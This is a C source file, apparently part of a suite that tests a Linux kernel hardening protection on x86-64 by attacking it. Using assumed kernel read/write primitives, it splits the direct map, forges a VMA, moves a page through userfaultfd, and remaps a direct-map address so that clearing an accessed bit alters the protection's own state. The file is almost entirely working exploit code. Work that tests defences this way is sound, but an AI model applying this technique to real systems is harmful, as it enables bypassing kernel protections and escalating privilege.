// SPDX-License-Identifier: GPL-2.0-only
/*
 * Whether a place may be written by a section is asked of the frame that its address in
 * the direct map names. Here that address of an ordinary page leads to state of the
 * protection, by an entry with the key of that, as the kernel may have. The accessed bit
 * is cleared there.
 */
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <unistd.h>

#include "addresses.h"
#include "attack.h"
#include "chunk.h"
#include "clear_refs.h"
#include "direct_map.h"
#include "list.h"
#include "objects.h"

#ifdef __x86_64__
#define SPARE_PART	0x55
#define TABLES_PART	0x56
#define TABLES		1500
#define KEY_OF_STATE	(1UL << 59)

/* ---- an address of the direct map, as direct_map.c has it ---- */

/* The direct map has nothing there any more. */
static bool empty_address(struct chunk *chunk, volatile char *spare, uint64_t entry, uint64_t mm)
{
	uint64_t at = direct_address(chunk), vma_spare = find_vma(spare), size, limit, old, vma;
	struct uffdio_move move = { .dst = (uint64_t)spare, .src = at, .len = PAGE_SIZE };
	bool done;

	size = find_task_size(mm);
	if (!vma_spare || !size)
		return false;
	count_twice(chunk);
	old = kread64(vma_spare + VMA_PROT);
	limit = kread64(size);
	kwrite64(vma_spare + VMA_PROT, PTE_KERNEL_RW);
	kwrite64(size, -PAGE_SIZE);
	vma = forge_vma(spare, at, kread64(vma_spare + VMA_PROT));
	kwrite64(entry, vma);
	done = vma && !ioctl(faults, UFFDIO_MOVE, &move);
	kwrite64(entry, 0);
	kwrite64(size, limit);
	kwrite64(vma_spare + VMA_PROT, old);
	return done;
}

/* ---- state ---- */

static uint64_t find_word_of_state(void)
{
	static uint8_t frames[4096];
	uint64_t pfn, found = 0;

	for (pfn = 0; !found && pfn < 1UL << 18; pfn++) {
		if (pfn % sizeof(frames) == 0 && kread(frame_at(pfn), frames, sizeof(frames)))
			return 0;
		if (frames[pfn % sizeof(frames)] == FRAME_STATE)
			found = clear_refs_word(direct_map_base() + pfn * PAGE_SIZE);
	}
	return found;
}

static bool split_direct_map(struct chunk *first, volatile char *base)
{
	struct slot slot;
	int i;

	use_up_blocks();
	munmap((void *)first->at, CHUNK_SIZE);
	if (put_on_free_list(first->page, CHUNK_ORDER))
		return false;
	for (i = 0; i < TABLES; i++) {
		(void)base[i * PMD_SIZE];
		if (i % 16)
			continue;
		if (!kwalk(direct_map_base() + first->phys, LEAF, 0, &slot) &&
		    slot.level == LEVEL_PTE)
			return true;
	}
	return false;
}

enum outcome state_alias(void)
{
	volatile char *base, *spare;
	struct chunk chunk[2];
	struct task task;
	uint64_t entry, before, after, word;
	int changed;

	if (!is_protected())
		return user_pte();
	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	if (!clear_refs_start())
		return broken("no process that clears accessed bits");
	stay_on_cpu(0);
	base = sparse_region(user_room(TABLES_PART), TABLES, PROT_READ);
	spare = map_small_pages(SPARE_PART, 2 * PMD_SIZE);
	if (!base || !spare || !find_chunks(chunk, 2))
		return broken("no pages in a row");
	*spare = 1;
	if (!open_faults(spare))
		return broken("no userfaultfd");
	if (!split_direct_map(&chunk[0], base))
		return broken("no entries of single pages in the direct map");
	corrupt_command("free");
	word = find_word_of_state();
	if (!word)
		return broken("no word of the state looks like an entry");
	before = kread64(word);
	if (ktask(0, &task))
		return broken("no task");
	entry = find_empty_entry(task.mm, direct_address(&chunk[1]));
	if (!entry)
		return broken("no room for a mapping");
	if (!empty_address(&chunk[1], spare + PAGE_SIZE, entry, task.mm))
		return lost("the address of the direct map is not empty");
	if (!map_address(direct_address(&chunk[1]), (word & -PAGE_SIZE) - direct_map_base(),
			 PTE_KERNEL_RW | KEY_OF_STATE))
		return lost("the address of the direct map leads to no state");
	changed = clear_refs_at(direct_address(&chunk[1]) + word % PAGE_SIZE);
	after = kread64(word);
	if (changed <= 0)
		return broken("nothing waited (%d)", changed);
	if (after == before)
		return lost("the word of the state is what it was, 0x%lx", after);
	return won("state of the protection at 0x%lx was 0x%lx, and is 0x%lx", word, before, after);
}
#else
enum outcome state_alias(void)
{
	return skipped("x86-64 only");
}
#endif
